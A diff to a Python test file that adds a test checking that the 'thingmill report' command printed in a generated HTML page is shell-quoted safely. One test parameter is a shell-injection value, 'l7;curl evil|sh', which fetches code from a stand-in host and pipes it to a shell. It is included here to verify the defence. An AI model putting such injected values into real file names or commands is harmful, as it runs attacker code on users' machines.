@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import html
 import re
+import shlex
 import sqlite3
 from contextlib import closing
 from typing import TYPE_CHECKING
@@ -68,6 +70,14 @@ def test_the_policy_lets_in_what_is_there_and_nothing_else(page: str) -> None:
         "form-action 'none'",
     ]
     assert page.index("Content-Security-Policy") < page.index("<style>")
+
+
+@pytest.mark.parametrize("name", ["l7;curl evil|sh", "line 7", "line-7"])
+def test_a_command_is_quoted_for_a_shell(tmp_path: Path, name: str) -> None:
+    """Whoever copies the command that writes the page again runs that one and no other."""
+    root = written(tmp_path / name, [Fate(device("one"))])
+    [command] = re.findall(r"<code>(thingmill report .*?)</code>", (root / "report.html").read_text("utf-8"))
+    assert shlex.split(html.unescape(command)) == ["thingmill", "report", name]
 
 
 def _source(text: str) -> str:
